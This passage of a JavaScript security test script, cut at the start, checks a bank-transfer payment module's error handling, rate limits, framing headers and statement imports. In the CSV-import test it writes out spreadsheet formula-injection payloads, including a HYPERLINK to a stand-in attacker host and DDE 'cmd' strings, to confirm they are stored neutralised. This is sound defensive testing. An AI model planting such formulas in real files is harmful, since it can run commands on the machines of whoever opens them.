    const row = table.get(c.route) ?? {}
    const key = r.status || r.error
    row[key] = (row[key] ?? 0) + 1
    table.set(c.route, row)
  }
  log(
    `\n${fmt(answers.length)} requests in ${seconds(elapsed)} (${IN_FLIGHT} in flight); answers by route and status:`
  )
  for (const route of [...table.keys()].sort()) {
    const row = table.get(route)
    log(
      `  ${route.padEnd(68)} ${Object.entries(row)
        .map(([s, n]) => `${s}×${n}`)
        .join("  ")}`
    )
  }
  const groups = new Map()
  for (const { c, r } of answers) {
    const g = groups.get(c.group) ?? { n: 0, wrong: [] }
    g.n++
    if (!c.want?.includes(r.status)) {
      g.wrong.push({ c, r })
    }
    groups.set(c.group, g)
  }
  log("by kind:")
  for (const [name, g] of groups) {
    log(
      `  ${name.padEnd(48)} ${fmt(g.n)}${g.wrong.length ? `, ${g.wrong.length} with another status` : ""}`
    )
  }

  const describe = ({ c, r }) =>
    `${c.method} ${c.url.slice(0, 80)}${c.label ? ` [${c.label}]` : ""} → ${r.status || r.error} ${r.text.slice(0, 120)}`
  const server = answers.filter(({ r }) => r.status >= 500)
  const hung = answers.filter(({ r }) => r.status === 0)
  const not4xx = answers.filter(({ r }) => !(r.status >= 400 && r.status < 500))
  check(
    "no 5xx",
    server.length === 0,
    server.length
      ? `${server.length}: ${server.slice(0, 5).map(describe).join(" | ")}`
      : ""
  )
  check(
    "no hang or dropped connection (20 s each)",
    hung.length === 0,
    hung.length
      ? `${hung.length}: ${hung.slice(0, 5).map(describe).join(" | ")}`
      : ""
  )
  check(
    "every request answered 4xx",
    not4xx.length === 0,
    not4xx.length
      ? `${not4xx.length}: ${not4xx.slice(0, 5).map(describe).join(" | ")}`
      : `${fmt(answers.length)} of ${fmt(answers.length)}`
  )
  const noMessage = answers.filter(({ c, r }) =>
    c.html && r.status === 404
      ? !/text\/html/.test(r.contentType)
      : !(
          /application\/json/.test(r.contentType) &&
          typeof r.json?.message === "string" &&
          r.json.message.length > 0
        )
  )
  check(
    "every answer has a JSON body with a message (the payment page's own 404 is an HTML page)",
    noMessage.length === 0,
    noMessage.length
      ? `${noMessage.length}: ${noMessage.slice(0, 5).map(describe).join(" | ")}`
      : ""
  )
  for (const [name, g] of groups) {
    check(
      `${name} (${fmt(g.n)})`,
      g.wrong.length === 0,
      g.wrong.length
        ? `${g.wrong.length}: ${g.wrong.slice(0, 4).map(describe).join(" | ")}`
        : ""
    )
  }
  const leaks = answers.filter(
    ({ r }) =>
      Object.values(SECRETS).some((s) => r.text.includes(s)) ||
      /at \/work\/|node_modules\//.test(r.text)
  )
  check(
    "no answer leaks a secret or a stack trace",
    leaks.length === 0,
    leaks.length ? leaks.slice(0, 3).map(describe).join(" | ") : ""
  )
  // Each channel's health record (last delivery, last error) is the one write a refused delivery
  // makes, by design: at most one row per channel, updated in place.
  const HEALTH = "bank_transfer_webhook_channel_status"
  const diff = countsDiff({ ...before, [HEALTH]: 0 }, { ...after, [HEALTH]: 0 })
  check(
    "a refused delivery updates only its channel's health record (one row per channel at most)",
    (after[HEALTH] ?? 0) <= 4,
    `${before[HEALTH]} → ${after[HEALTH]} rows`
  )
  const filesAfter = staticFiles()
  log(
    `row counts (${Object.keys(before).length} tables) before and after: ${diff.length ? diff.join(", ") : "identical"}; files in static/: ${filesBefore} → ${filesAfter}`
  )
  check(
    "no file was written (the local file provider's static/ folder)",
    filesAfter === filesBefore,
    `${filesBefore} → ${filesAfter}`
  )
  await framingHeaders(ctx, randomToken)
  check(
    "nothing was written: every bank_transfer_* table (channel health aside), notification, payment and capture unchanged",
    diff.length === 0,
    diff.join(", ")
  )

  await acceptedFormulaCells(ctx)
}

/** A one-line XLSX statement (write-excel-file, a devDependency) with this memo. */
async function xlsxFile(memo) {
  const writeXlsxFile = (await import(require.resolve("write-excel-file/node")))
    .default
  const rows = [
    [
      { value: "Ngày giao dịch" },
      { value: "Số tham chiếu" },
      { value: "Số tiền ghi có" },
      { value: "Mô tả" },
    ],
    [
      { value: "23/11/2026" },
      { value: "X1" },
      { type: Number, value: 100000 },
      { value: memo },
    ],
  ]
  return writeXlsxFile(rows).toBuffer()
}

/** Row counts once two readings a second apart agree (background work from part 1 finished). */
async function stableCounts(db) {
  let last = await tableCounts(db)
  const stable = await waitUntil(
    async () => {
      const now = await tableCounts(db)
      const same = countsDiff(last, now).length === 0
      last = now
      return same ? now : null
    },
    60_000,
    1000
  )
  return stable ?? last
}

/**
 * A statement whose used columns are clean is accepted even if a column the import does not use
 * holds formulas; those cells are kept only in the line's raw record, and must be stored inert
 * (prefixed with an apostrophe), in the preview and in the ledger.
 */
async function acceptedFormulaCells(ctx) {
  const { db, info } = ctx
  const tag = letters(Date.now() % 1e6)
  const payloads = [
    '=HYPERLINK("http://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    " =1+1",
  ]
  const csv = [
    "Ngày giao dịch;Số tham chiếu;Số tiền ghi có;Mô tả;Ghi chú nội bộ",
    ...payloads.map(
      (p, i) =>
        `23/11/2026 10:0${i};FT${tag}F${i};${(4_000_001 + i * 3).toLocaleString("de-DE")};nop tien ${tag} ${letters(i)};"${p.replace(/"/g, '""')}"`
    ),
  ].join("\n")
  const f = new FormData()
  f.append("file", new Blob([csv], { type: "text/csv" }), "ghi-chu.csv")
  const preview = await request("POST", "/admin/bank-transfer/imports", {
    body: f,
    headers: info.admin,
  })
  const lines = preview.json?.import?.lines ?? []
  const cells = lines.map((l) => l.raw?.["Ghi chú nội bộ"])
  log(
    `a statement with formulas only in an unused column: ${preview.status}; stored cells ${JSON.stringify(cells)}`
  )
  const inert = (v) => typeof v === "string" && v.startsWith("'")
  check(
    "formula cells in a column the import does not use are accepted only neutralised (stored with a leading apostrophe)",
    preview.status === 201 &&
      cells.length === payloads.length &&
      cells.every(inert) &&
      lines.every((l) => !/^\s*[=+\-@]/.test(l.memo)),
    preview.status === 201 ? "" : preview.text.slice(0, 200)
  )
  if (preview.status !== 201) {
    return
  }
  const commit = await api(
    "POST",
    `/admin/bank-transfer/imports/${preview.json.import.id}/commit`,
    { headers: info.admin, body: {} }
  )
  const { rows } = await db.query(
    `SELECT raw->>'Ghi chú nội bộ' AS cell, memo FROM bank_transfer_transaction WHERE import_id = $1`,
    [preview.json.import.id]
  )
  check(
    "…and the same in the ledger after the commit",
    commit.added === payloads.length &&
      rows.length === payloads.length &&
      rows.every((r) => inert(r.cell) && !/^\s*[=+\-@]/.test(r.memo)),
    JSON.stringify(rows.map((r) => r.cell))
  )
}

/**
 * Floods of the shopper routes, past the limits run.mjs sets (per client address 1,500 a minute,
 * per payment token 200): from another loopback address (127.0.0.9), 1,520 status polls of wrong
 * tokens (each a new token); on one order's token, 215 "I have paid" forms with a bad amount (400,
 * nothing stored). Every answer must be the route's own 4xx, then 429 with a JSON message.
 */
async function floods(ctx, randomToken) {
  const group429 = "flood past the rate limit → 404/400, then 429"
  const perAddress = await pool(
    Array.from({ length: 1520 }, () => randomToken()),
    16,
    async (t) => ({
      c: {
        group: group429,
        route: "GET /bank-transfer/pay/:token/status",
        method: "GET",
        url: `/bank-transfer/pay/${t}/status`,
        want: [404, 429],
        label: "from 127.0.0.9",
      },
      r: await rawRequest("GET", `/bank-transfer/pay/${t}/status`, {
        localAddress: "127.0.0.9",
      }),
    })
  )
  const token = ctx.orders.a[1].exp.page_token
  const perToken = await pool(
    Array.from({ length: 215 }, (_, i) => i),
    8,
    async () => {
      const f = new FormData()
      f.append("amount", "abc")
      return {
        c: {
          group: group429,
          route: "POST /bank-transfer/pay/:token/confirm",
          method: "POST",
          url: `/bank-transfer/pay/${token}/confirm`,
          want: [400, 429],
          label: "one token",
        },
        r: await request("POST", `/bank-transfer/pay/${token}/confirm`, {
          body: f,
        }),
      }
    }
  )
  const limited = (answers) =>
    answers.filter(
      ({ r }) => r.status === 429 && r.json?.type === "too_many_requests"
    )
  log(
    `floods: per address ${perAddress.length} requests, ${limited(perAddress).length} answered 429; per token ${perToken.length}, ${limited(perToken).length} answered 429`
  )
  check(
    "a flood from one address is answered 429 past 1,500 a minute",
    limited(perAddress).length >= 20,
    `${limited(perAddress).length} × 429`
  )
  check(
    "a flood on one payment token is answered 429 past 200 a minute",
    limited(perToken).length >= 15,
    `${limited(perToken).length} × 429`
  )
  return [...perAddress, ...perToken]
}

/**
 * The payment page, its status and QR routes, right and wrong tokens: none may be framed
 * (X-Frame-Options DENY, CSP frame-ancestors 'none'), sniffed, or send a Referer.
 */
async function framingHeaders(ctx, randomToken) {
  const token = ctx.orders.a[0].exp.page_token
  const wrong = randomToken()
  const urls = [token, wrong].flatMap((t) => [
    `/bank-transfer/pay/${t}`,
    `/bank-transfer/pay/${t}/status`,
    `/bank-transfer/pay/${t}/qr`,
    `/bank-transfer/pay/${t}/confirm`,
  ])
  const bad = []
  for (const url of urls) {
    const r = await rawRequest(url.endsWith("/confirm") ? "POST" : "GET", url, {
      localAddress: "127.0.0.10",
    })
    const h = r.headers ?? {}
    if (
      h["x-frame-options"] !== "DENY" ||
      !/frame-ancestors 'none'/.test(h["content-security-policy"] ?? "") ||
      h["x-content-type-options"] !== "nosniff" ||
      h["referrer-policy"] !== "no-referrer"
    ) {
      bad.push(`${url.replace(token, "<token>")} → ${r.status}`)
    }
  }
  check(
    `the payment page's routes cannot be framed, sniffed or leak a Referer (${urls.length} answers, right and wrong tokens)`,
    bad.length === 0,
    bad.join(" | ")
  )
}
